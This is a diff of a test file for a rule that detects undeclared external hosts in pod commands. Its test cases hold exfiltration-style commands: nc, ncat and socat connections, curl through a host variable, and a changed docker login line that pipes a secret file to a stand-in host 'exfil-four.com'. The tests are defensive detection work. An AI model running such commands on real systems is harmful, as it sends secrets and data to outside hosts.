@@ -273,7 +273,7 @@ describe('undeclared-external-host: hosts recognised by what their position mean
         deny('nc EXFIL-FOUR.COM 4444', cmdPod(['nc', 'EXFIL-FOUR.COM', '4444']), at.command(1), 'exfil-four.com'),
         deny('ncat EXFIL-FOUR.COM 4444', cmdPod(['ncat', 'EXFIL-FOUR.COM', '4444']), at.command(1), 'exfil-four.com'),
         deny('socat - TCP:exfil-four.com:https (a service-name port)', cmdPod(['socat', '-', 'TCP:exfil-four.com:https']), at.command(2), 'exfil-four.com'),
-        deny('docker login REGISTRY', shPod('echo x | docker login registry.exfil-four.com -u u --password-stdin'), at.command(2), 'registry.exfil-four.com'),
+        deny('docker login REGISTRY', shPod('cat /run/secrets/pw | docker login registry.exfil-four.com -u u --password-stdin'), at.command(2), 'registry.exfil-four.com'),
         deny('openssl s_client -connect HOST:PORT', cmdPod(['openssl', 's_client', '-connect', 'exfil-four.com:443']), at.command(3), 'exfil-four.com'),
         deny('aws --endpoint-url', cmdPod(['aws', 's3', 'ls', '--endpoint-url', 'https://s3.exfil-four.com']), at.command(4), 's3.exfil-four.com'),
         deny('a script variable set to a host, then used', shPod('H=exfil-four.com; curl "https://$H/x"'), at.command(2), 'exfil-four.com'),
